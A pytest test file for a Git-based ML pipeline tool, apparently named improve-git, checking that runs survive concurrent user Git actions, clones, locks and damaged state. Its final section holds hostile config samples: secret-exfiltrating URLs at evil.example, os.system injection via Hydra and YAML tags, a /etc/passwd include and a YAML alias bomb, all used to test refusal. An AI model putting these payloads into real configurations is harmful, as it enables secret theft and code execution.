"""What people do to a pipeline while it runs, to their Git, and to clones: nothing of theirs is
lost, and the run carries on or says in one line what it needs."""

import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from mishaps import Call, be_busy, check_trail, user, work_of

from improve_git.errors import PipelineError
from improve_git.messages import trailers
from improve_git.pipeline import Pipeline
from improve_git.trail.history import read_history
from improve_git.trail.landing import LandingWaits
from scripted import source
from worlds import BETTER, WORSE, World, meanwhile, world_at

Worlds = Callable[..., World]
WIDER = ("model", "wider", BETTER)
LONGER = ("train", "longer", source("train", 0.3))
MERGED = (1, "merged", "accuracy 0.8000 over 0.6000 (+20.00 points)")
BOTH = [MERGED, (2, "merged", "accuracy 0.9000 over 0.8000 (+10.00 points)")]


# While a candidate is being trained


WAYS = {
    "elsewhere": ("ideas.md", "mine\n", MERGED),
    "another component": (
        "train.py", source("train", 0.3),
        (1, "merged", "accuracy 0.9000 over 0.7000 (+20.00 points)"),
    ),
    "its own component": (
        "model.py", source("model", 0.1),
        (1, "rejected", "superseded: model.py was changed on main meanwhile"),
    ),
    "a scored setting": ("improve.yaml", "seed: 7", MERGED),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_main_is_committed_to(world: Worlds, way: str) -> None:
    name, text, verdict = WAYS[way]
    w = world(WIDER)
    be_busy(w)
    if name == "improve.yaml":
        text = w.pipeline.repo.read("main", name).replace("\nseed: 0", f"\n{text}")

    def commit() -> None:
        (w.pipeline.repo.folder / name).write_text(text)
        user(w, "add", name)
        user(w, "commit", "-q", "-m", "Mine", "--", name)

    before = work_of(w)
    meanwhile(w, 1, commit)
    w.run()
    assert w.verdicts() == [verdict]
    assert w.pipeline.repo.read("main", name) == text
    assert work_of(w) == before
    assert user(w, "status", "--porcelain") == "MM README.md\n?? ideas.txt\n"
    check_trail(w)


def test_main_is_rebased(world: Worlds) -> None:
    w = world(WIDER, LONGER)
    w.run("budget.iterations=1")
    w.commit("ideas.md", "mine\n")
    meanwhile(w, 1, lambda: user(w, "rebase", "-q", "--force-rebase", "--root"))
    w.run()
    w.run()
    # Git flattens merges: the first one's content stays, and is measured as the user's own.
    assert w.verdicts() == BOTH
    assert w.pipeline.repo.read("main", "model.py") == BETTER
    assert w.pipeline.repo.read("main", "ideas.md") == "mine\n"
    assert user(w, "status", "--porcelain") == ""
    # Git's own: `rebase --root` names the empty tree in the reflog, and does not write it.
    user(w, "hash-object", "-t", "tree", "-w", "/dev/null")
    check_trail(w)


def test_another_branch_is_checked_out_and_main_moved_by_force(world: Worlds) -> None:
    w = world(WIDER, LONGER)
    w.run("budget.iterations=1")

    def leave() -> None:
        user(w, "checkout", "-q", "-b", "elsewhere")
        user(w, "branch", "-q", "--force", "main", "main^1")

    meanwhile(w, 1, leave)
    w.run()
    assert w.verdicts() == [
        MERGED,  # as the second's branch still tells
        (2, "merged", "accuracy 0.7000 over 0.6000 (+10.00 points)"),
    ]
    assert user(w, "symbolic-ref", "--short", "HEAD") == "elsewhere\n"
    assert (w.pipeline.repo.folder / "model.py").read_text() == BETTER
    assert user(w, "status", "--porcelain") == ""
    check_trail(w)


@pytest.mark.parametrize("command", ["branch -D", "branch -m kept"])
def test_an_attempts_branch_is_deleted_or_renamed(world: Worlds, command: str) -> None:
    w = world(WIDER, ("train", "slower", WORSE), LONGER)
    be_busy(w)
    before = work_of(w)
    verb, how, *new = command.split()
    names = ["improve/0001-model-wider", "improve/0002-train-slower"]
    left = iter(names)

    def take_away() -> None:
        if name := next(left, None):
            user(w, verb, how, name, *(f"{new[0]}-{name[-5:]}" for _ in new))

    w.sandbox.before_training = take_away
    w.run()
    # What was measured and is better lands all the same; what is not has nowhere to be told. Its
    # number is not given twice, although nothing but the journal knows it any more.
    assert w.verdicts() == [MERGED, (3, "merged", "accuracy 0.9000 over 0.8000 (+10.00 points)")]
    assert work_of(w) == before
    kept = w.pipeline.repo.git("branch", "--list", "kept-*")
    assert len(kept.splitlines()) == 2 * len(new)
    check_trail(w)


def test_main_is_renamed_and_comes_back(world: Worlds) -> None:
    w = world(WIDER)
    meanwhile(w, 1, lambda: user(w, "branch", "-m", "main", "trunk"))
    with pytest.raises(PipelineError, match="there is no branch main here") as caught:
        w.run()
    assert caught.value.fix == "git branch main COMMIT; git reflog names what it held"
    user(w, "branch", "-m", "trunk", "main")
    w.run()
    assert w.verdicts() == [MERGED]
    assert len(w.sandbox.trained) == 1
    check_trail(w)


def test_the_file_that_would_land_is_edited_and_half_of_it_staged(
    world: Worlds, call: Call
) -> None:
    w = world(WIDER)
    be_busy(w)
    file = w.pipeline.repo.folder / "model.py"

    def edit() -> None:
        file.write_text("staged\n")
        user(w, "add", "model.py")
        file.write_text("staged\nand more\n")

    meanwhile(w, 1, edit)
    before = work_of(w)
    said = call("run", "-C", w.pipeline.repo.folder, w=w)
    waits = f"model.py has uncommitted edits in {w.pipeline.repo.folder}"
    fix = "  fix: commit or stash them, then: improve-git run\n"
    assert (said.code, said.err) == (1, f"error: a merge waits: {waits}\n{fix}")
    assert (file.read_text(), user(w, "show", ":model.py")) == ("staged\nand more\n", "staged\n")
    status = call("status", "-C", w.pipeline.repo.folder).out
    told = f"waits for you: a merge waits: {waits}"
    assert "".join(told.split()) in "".join(status.split())  # long lines are wrapped
    user(w, "stash", "push", "-q", "--", "model.py")
    assert call("run", "-C", w.pipeline.repo.folder, w=w).code == 0
    assert w.verdicts() == [MERGED]
    assert file.read_text() == BETTER
    assert user(w, "show", "stash@{0}:model.py") == "staged\nand more\n"
    user(w, "stash", "drop", "-q")
    assert work_of(w) == before
    assert len(w.sandbox.trained) == 1
    check_trail(w)


def test_git_gc_prunes_all_it_can(world: Worlds) -> None:
    def collect() -> None:
        user(w, "reflog", "expire", "--expire=now", "--all")
        user(w, "gc", "-q", "--prune=now")

    w = world(WIDER, LONGER)
    meanwhile(w, 1, collect)
    w.run("budget.iterations=1")
    collect()
    w.run()
    assert w.verdicts() == BOTH
    assert len(w.sandbox.trained) == 2
    assert user(w, "status", "--porcelain") == ""
    check_trail(w)


# Git as people set it up


def test_hooks_signing_and_line_endings_of_the_users(world: Worlds, tmp_path: Path) -> None:
    w = world(WIDER)
    hooks = w.pipeline.repo.folder / ".git" / "hooks"
    elsewhere = tmp_path / "hooks"
    for folder in (hooks, elsewhere):
        folder.mkdir(exist_ok=True)
        for name in ("reference-transaction", "pre-commit", "commit-msg", "post-index-change",
                     "prepare-commit-msg", "post-checkout", "post-merge"):  # fmt: skip
            hook = folder / name
            hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran-{name}\nexit 1\n")
            hook.chmod(0o755)
    for setting in ("core.hooksPath", str(elsewhere)), ("commit.gpgSign", "true"), (
        "gpg.program", "false"), ("user.useConfigOnly", "true"), ("core.autocrlf", "true"), (
        "merge.ff", "only"), ("core.fsmonitor", str(elsewhere / "pre-commit")):  # fmt: skip
        w.pipeline.repo.git("config", *setting)
    w.run()
    w.pipeline.repo.git("config", "--unset", "core.hooksPath")  # those of .git/hooks count now
    w.team.moves.append(LONGER)
    w.run()
    assert [v for _, v, _ in w.verdicts()] == ["merged", "merged"]
    assert not list(tmp_path.glob("ran-*"))
    assert (w.pipeline.repo.folder / "model.py").read_bytes() == BETTER.replace(
        "\n", "\r\n").encode()  # fmt: skip
    assert w.pipeline.repo.read("main", "model.py") == BETTER
    assert w.pipeline.repo.git("status", "--porcelain") == ""
    assert w.pipeline.repo.git("log", "-1", "--format=%an, %G?", "main") == "improve-git, N"


def test_a_repository_of_somebody_elses_names_the_way_out(
    world: Worlds, call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if os.getuid():
        pytest.skip("needs root to give a folder away")
    w = world(WIDER)
    folder = w.pipeline.repo.folder
    subprocess.run(["chown", "-R", "12345", str(folder)], check=True)
    fix = f"git config --global --add safe.directory {folder}"
    for command in ("run", "status", "log"):
        said = call(command, "-C", folder, w=w)
        assert said.code == 1
        assert said.err == (
            f"error: Git does not trust {folder}: it belongs to another user\n"
            f"  fix: if you do: {fix}\n"
        )
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    subprocess.run(fix.split(), check=True)
    assert call("run", "-C", folder, w=w).code == 0
    assert w.verdicts() == [MERGED]


def test_a_shallow_clone_says_what_it_needs(world: Worlds, call: Call, tmp_path: Path) -> None:
    w = world(WIDER)
    shallow = tmp_path / "shallow"
    user(w, "clone", "-q", "--depth", "1", f"file://{w.pipeline.repo.folder}", str(shallow))
    said = call("run", "-C", shallow, w=w)
    assert (said.code, said.err) == (
        1, "error: this clone is shallow: its history is cut off\n  fix: git fetch --unshallow\n",
    )  # fmt: skip
    subprocess.run(["git", "fetch", "-q", "--unshallow"], cwd=shallow, check=True)
    assert call("run", "-C", shallow, w=w).code == 0
    assert world_at(shallow, []).verdicts() == [MERGED]


def test_a_run_in_a_linked_worktree_that_has_main(
    world: Worlds, call: Call, tmp_path: Path
) -> None:
    w = world(WIDER)
    be_busy(w)
    user(w, "stash")
    user(w, "checkout", "-q", "mine")
    user(w, "stash", "pop", "--index")
    before = work_of(w)
    linked = tmp_path / "linked"
    user(w, "worktree", "add", "-q", str(linked), "main")
    (linked / "train.py").write_text("an edit\n")
    assert call("run", "-C", linked, w=w).code == 0
    assert w.verdicts() == [MERGED]
    assert (linked / "model.py").read_text() == BETTER
    assert (linked / "train.py").read_text() == "an edit\n"
    assert (w.pipeline.repo.folder / "model.py").read_text() == source("model", 0.2)
    assert work_of(w) == before
    assert not (linked / ".improve").exists()  # state is shared, and so is the lock
    check_trail(w)


# Two runs at once


HOLD = """
import pathlib, sys
from improve_git.journal import only_run
with only_run(pathlib.Path(sys.argv[1])):
    print("held", flush=True)
    sys.stdin.read()
"""


def test_an_interrupted_run_says_what_it_carries_on(world: Worlds, call: Call) -> None:
    w = world(WIDER)
    folder = w.pipeline.repo.folder

    def interrupt() -> None:
        w.sandbox.before_training = lambda: None
        raise KeyboardInterrupt

    w.sandbox.before_training = interrupt
    said = call("run", "-C", folder, "budget.iterations=1", w=w)
    again = f"interrupted; to carry on: improve-git run -C {folder} budget.iterations=1\n"
    assert (said.code, said.err.strip("\n")) == (130, again.strip("\n"))
    assert "carrying on" not in said.out
    said = call("run", "-C", folder, "budget.iterations=1", w=w)
    assert said.out.splitlines()[0] == "carrying on: 0001 model: wider"
    assert said.code == 0


def test_the_second_of_two_runs_says_who_runs_since_when(world: Worlds, call: Call) -> None:
    w = world(WIDER)
    folder = w.pipeline.repo.folder
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(w.pipeline.state)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
    )  # fmt: skip
    try:
        assert holder.stdout
        assert holder.stdout.readline() == b"held\n"
        said = call("run", "-C", folder, w=w)
        assert said.code == 1
        begin = f"error: a run is under way on this pipeline: process {holder.pid} on "
        assert said.err.startswith(begin)
        assert (
            ", since 20" in said.err
            and f"\n  fix: wait for it, or end it: kill {holder.pid}\n" in said.err
        )
        assert w.verdicts() == []
        assert f"under way: process {holder.pid}" in call("status", "-C", folder).out
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait()
    assert (w.pipeline.state / "lock.holder").exists()  # stale: its process is dead
    assert "under way" not in call("status", "-C", folder).out
    assert call("run", "-C", folder, w=w).code == 0
    assert w.verdicts() == [MERGED]
    check_trail(w)


# Clones, damage, other versions


def test_a_clone_on_a_new_machine_finds_its_images_once_told(
    world: Worlds, call: Call, photos: Path, tmp_path: Path
) -> None:
    w = world(WIDER, LONGER)
    w.run("budget.iterations=1")
    clone, away = tmp_path / "clone", tmp_path / "elsewhere" / "photos"
    user(w, "clone", "-q", "--no-local", ".", str(clone))
    away.parent.mkdir()
    there = world_at(clone, w.team.moves)
    photos.rename(away)
    try:
        said = call("run", "-C", clone, w=there)
        assert said.code == 1
        assert f"error: there are no images at '{photos}'\n" in said.err
        assert "say it once: improve-git run data.images=FOLDER\n" in said.err
        assert "git fetch origin '+refs/notes/*:refs/notes/*'" in said.out
        wrong = tmp_path / "wrong"
        subprocess.run(["cp", "-r", str(away), str(wrong)], check=True)
        (wrong / "cats" / "0.png").write_bytes(b"another")
        said = call("run", "-C", clone, f"data.images={wrong}", w=there)
        assert (said.code, "the image 'cats/0.png' has changed" in said.err) == (1, True)
        assert call(
            "run", "-C", clone, f"data.images={away}", "budget.iterations=1", w=there
        ).code == 0  # fmt: skip
        assert call("run", "-C", clone, w=there).code == 0  # found where they were
    finally:
        away.rename(photos)
    # The records had not been fetched, so main was measured again; then all went on as before.
    assert there.verdicts() == BOTH
    assert [s.verdict for s in read_history(there.pipeline.repo).main] == [
        "baseline", "merged", "measured", "merged"]  # fmt: skip
    mine = set(there.pipeline.repo.notes())
    there.pipeline.repo.git("fetch", "-q", "origin", "+refs/notes/*:refs/notes/*")
    assert call("run", "-C", clone, w=there).code == 0
    assert set(there.pipeline.repo.notes()) == mine | set(w.pipeline.repo.notes())
    check_trail(there)


def test_a_note_that_was_edited_changes_nothing(world: Worlds) -> None:
    w = world(WIDER)
    w.run()
    user(w, "notes", "--ref", "improve", "add", "-f", "-m", "{not JSON", "main")
    w.run()
    assert w.verdicts() == [MERGED]
    assert [s.verdict for s in read_history(w.pipeline.repo).main] == ["baseline", "merged"]
    assert user(w, "notes", "--ref", "improve", "show", "main") == "{not JSON\n"


def test_damaged_notes_name_the_way_out(world: Worlds, call: Call) -> None:
    w = world(WIDER)
    folder = w.pipeline.repo.folder
    w.run("budget.iterations=0")
    (folder / ".git" / "refs" / "notes" / "improve").write_text("1" * 40 + "\n")
    said = call("run", "-C", folder, w=w)
    fix = "git update-ref -d refs/notes/improve"
    assert (said.code, f"  fix: if the notes are damaged: {fix}; " in said.err) == (1, True)
    assert call("log", "-C", folder).code == 0  # the story does not need them
    user(w, *fix.split()[1:])
    assert call("run", "-C", folder, w=w).code == 0
    assert w.verdicts() == [MERGED]
    check_trail(w)


def test_a_damaged_record_is_measured_again(world: Worlds) -> None:
    w = world(WIDER)
    w.run()
    blob = trailers(w.pipeline.repo.log("-1", "main")[0].message)["Record"]
    loose = w.pipeline.repo.folder / ".git" / "objects" / blob[:2] / blob[2:]
    loose.chmod(0o644)
    loose.write_bytes(loose.read_bytes()[:40])
    (w.pipeline.state / "journal").unlink()
    w.run()
    assert [s.verdict for s in read_history(w.pipeline.repo).main] == [
        "baseline", "merged", "measured"]  # fmt: skip
    assert len(w.sandbox.trained) == 2


@pytest.mark.parametrize(
    ("version", "fix"),
    [
        ("2", "install a newer improve-git"),
        ("0", "use the improve-git that made it, or make the pipeline anew: improve-git init"),
    ],
)
def test_a_pipeline_of_another_version_says_so(
    world: Worlds, call: Call, version: str, fix: str
) -> None:
    w = world(WIDER)
    text = w.pipeline.repo.read("main", "dataset.json")
    assert '"format": 1,' in text
    w.commit("dataset.json", text.replace('"format": 1,', f'"format": {version},'))
    said = call("run", "-C", w.pipeline.repo.folder, w=w)
    assert (said.code, said.err) == (
        1,
        f"error: dataset.json has format {version}; this improve-git reads 1\n  fix: {fix}\n",
    )
    assert call("log", "-C", w.pipeline.repo.folder).code == 0
    user(w, "revert", "--no-edit", "HEAD")
    assert call("run", "-C", w.pipeline.repo.folder, w=w).code == 0
    assert w.verdicts() == [MERGED]


def test_a_record_of_another_version_is_measured_again(
    world: Worlds, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = world(WIDER)
    monkeypatch.setattr("improve_git.iteration.measurement.FORMAT", 2)
    w.run()
    assert [s.verdict for s in read_history(w.pipeline.repo).main] == [
        "baseline", "measured", "merged"]  # fmt: skip
    assert len(w.sandbox.trained) == 1  # main's weights are at hand


BOMB = "a: &a [x, x]\n" + "".join(
    f"{new}: &{new} [*{old}, *{old}, *{old}, *{old}]\n"
    for old, new in zip("abcdefghijklm", "bcdefghijklmn", strict=True)
)
HOSTILE = {
    "a secret": ("llm: {name: vllm, model: '${oc.env:MY_KEY}'}", "is not read"),
    "a secret in the address": (
        "llm: {name: vllm, model: m, api_base: 'http://evil.example/${oc.env:MY_KEY}'}",
        "is not read",
    ),
    "another server": (
        "llm: {name: openai, model: m, api_base: 'http://evil.example/v1'}",
        "improve.yaml sends prompts and your key to http://evil.example/v1",
    ),
    "an image": (
        "sandbox: {name: docker, base_image: evil.example/image}",
        "improve.yaml builds the sandbox on the image evil.example/image",
    ),
    "a mount": ("sandbox: {name: docker, mounts: [/root]}", "sandbox.mounts: no such setting"),
    "privileges": ("sandbox: {privileged: true}", "sandbox.privileged: no such setting"),
    "a class to make": ("_target_: os.system", "_target_: no such setting"),
    "Python": ("seed: !!python/object/apply:os.system ['touch ran']", "could not determine"),
    "another config": ("defaults: [/etc/passwd]", "defaults: no such setting"),
    "a bomb": (BOMB, "*alias is not read"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_cloned_pipeline_with_hostile_settings_is_refused(
    world: Worlds, call: Call, kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, told = HOSTILE[kind]
    w = world()
    w.commit("improve.yaml", text + "\n")
    clone = tmp_path / "clone"
    user(w, "clone", "-q", ".", str(clone))
    monkeypatch.setenv("MY_KEY", "the-secret")
    monkeypatch.setenv("OPENAI_API_KEY", "the-secret")
    monkeypatch.chdir(tmp_path)
    said = call("run", "-C", clone)
    assert said.code == 1
    assert told in said.err.splitlines()[0]
    assert len(said.err.splitlines()) <= 2
    assert "the-secret" not in said.out + said.err
    assert not (tmp_path / "ran").exists()
    assert not (clone / ".improve" / "journal").exists()
    assert Pipeline.open(clone).repo.git("log", "--format=%s", "origin/main..main") == ""
    assert call("status", "-C", clone).code == 0


def test_a_merge_waits_and_nothing_is_measured_twice(world: Worlds) -> None:
    """An edit that stays for many runs: each says the same, and costs nothing."""
    w = world(WIDER)
    file = w.pipeline.repo.folder / "model.py"
    meanwhile(w, 1, lambda: file.write_text("mine\n"))
    for _ in range(3):
        with pytest.raises(LandingWaits):
            w.run()
    user(w, "checkout", "-q", "--", "model.py")
    w.run()
    assert w.verdicts() == [MERGED]
    assert len(w.sandbox.trained) == 1
    check_trail(w)
